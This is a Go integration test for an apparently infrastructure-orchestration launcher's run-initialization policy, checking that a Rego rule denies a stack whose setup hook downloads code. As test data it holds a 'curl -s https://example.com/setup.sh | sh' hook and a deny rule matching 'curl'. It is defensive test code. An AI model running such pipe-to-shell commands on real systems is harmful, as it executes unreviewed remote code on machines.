package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	gantryv1 "github.com/gantryhq/gantry/proto/gen/gantry/v1"
)

// TestRunInitializationPolicy: a launcher with
// GANTRY_LAUNCHER_RUN_INITIALIZATION_POLICY evaluates it before a run's
// first phase; a denial fails the run with the policy's messages before
// PREPARING, and a run the policy allows goes on. A policy that does not
// compile stops the launcher at start.
func TestRunInitializationPolicy(t *testing.T) {
	srv := startServer(t)
	dir := t.TempDir()
	policy := filepath.Join(dir, "policy.rego")
	if err := os.WriteFile(policy, []byte(`package gantry

deny contains sprintf("hook %q downloads code", [hook]) if {
	some hook in input.stack.hooks.before_init
	contains(hook, "curl")
}

deny contains sprintf("worker zone %s runs nothing of %s", [input.worker.metadata.zone, input.run.triggered_by]) if {
	input.worker.metadata.zone == "quarantine"
}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	pool := startLauncherPool(t, srv, "policed", 1, "GANTRY_LAUNCHER_RUN_INITIALIZATION_POLICY="+policy, "GANTRY_METADATA_zone=a")
	c := srv.as(srv.adminToken(t))
	repo := demoRepo(t)
	c.createStack(t, &gantryv1.CreateStackRequest{Name: "fetcher", RepositoryUrl: repo, WorkerPoolId: pool.id,
		Hooks: &gantryv1.Hooks{BeforeInit: []string{"curl -s https://example.com/setup.sh | sh"}}})
	c.createStack(t, &gantryv1.CreateStackRequest{Name: "plain", RepositoryUrl: repo, WorkerPoolId: pool.id})

	denied := c.waitRunState(t, c.trigger(t, "fetcher", gantryv1.RunType_RUN_TYPE_PROPOSED), gantryv1.RunState_RUN_STATE_FAILED)
	failed, _ := entered(denied, gantryv1.RunState_RUN_STATE_FAILED)
	if want := `denied by the run initialization policy: hook "curl -s https://example.com/setup.sh | sh" downloads code`; failed.GetNote() != want {
		t.Errorf("note %q, want %q", failed.GetNote(), want)
	}
	if _, prepared := entered(denied, gantryv1.RunState_RUN_STATE_PREPARING); prepared {
		t.Errorf("a denied run started PREPARING:\n%s", historyText(denied))
	}
	c.waitRunState(t, c.trigger(t, "plain", gantryv1.RunType_RUN_TYPE_PROPOSED), gantryv1.RunState_RUN_STATE_FINISHED)
	if out := srv.mustCLI(t, "run", "show", denied.GetId()); !strings.Contains(out, "downloads code") {
		t.Errorf("run show does not give the policy's message:\n%s", out)
	}

	bad := filepath.Join(dir, "bad.rego")
	if err := os.WriteFile(bad, []byte("package gantry\ndeny contains msg if { msg := undefined_function() }\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	p := startGantryEnv(t, append([]string{"GANTRY_LAUNCHER_RUN_INITIALIZATION_POLICY=" + bad}, pool.env...), "launcher")
	if err := p.exit(t, 20*time.Second); err == nil {
		t.Error("a launcher whose policy does not compile started")
	}
}
